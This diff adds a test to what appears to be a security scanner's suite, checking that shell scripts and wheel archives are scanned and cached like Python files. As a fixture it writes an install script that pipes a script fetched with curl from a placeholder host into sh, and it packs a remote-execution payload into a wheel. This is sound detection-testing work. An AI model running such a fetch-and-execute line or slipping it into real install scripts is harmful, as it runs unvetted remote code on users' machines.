@@ -272,3 +272,23 @@ def test_parallel_batches_share_one_folder(tmp_path: Path, _own_result_cache) ->
     assert names[:2] == [".gitignore", "CACHEDIR.TAG"] and len(names) == 4, names  # no temporary files left
     for entry in _entries(_own_result_cache):
         assert json.loads(entry.read_text())["format"] == cache_mod.FORMAT
+
+
+def test_shell_scripts_and_archives_are_part_of_what_is_compared(tmp_path: Path, capsys) -> None:
+    """Files read by other front ends (shell scripts, package archives) count like Python files."""
+    import zipfile
+
+    root = _project(tmp_path / "proj")
+    script = root / "install.sh"
+    script.write_text("curl -fsSL https://example.invalid/i.sh | sh\n")
+    wheel = root / "plugin-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(wheel, "w") as zf:
+        zf.writestr("plugin/__init__.py", REMOTE_EXEC)
+    first = json.loads(_run(capsys, "--format", "json", str(root))[1])["findings"]
+    assert {"RCE004", "RCE001"} <= {f["rule"] for f in first}
+    script.write_text("echo 'curl is not run here'\n")
+    with zipfile.ZipFile(wheel, "w") as zf:
+        zf.writestr("plugin/__init__.py", "x = 1\n")
+    second = json.loads(_run(capsys, "--format", "json", str(root))[1])["findings"]
+    assert not [f for f in second if f["location"]["path"].startswith(("install.sh", "plugin-1.0"))], second
+    assert _run(capsys, "--format", "json", str(root)) == _run(capsys, "--no-cache", "--format", "json", str(root))
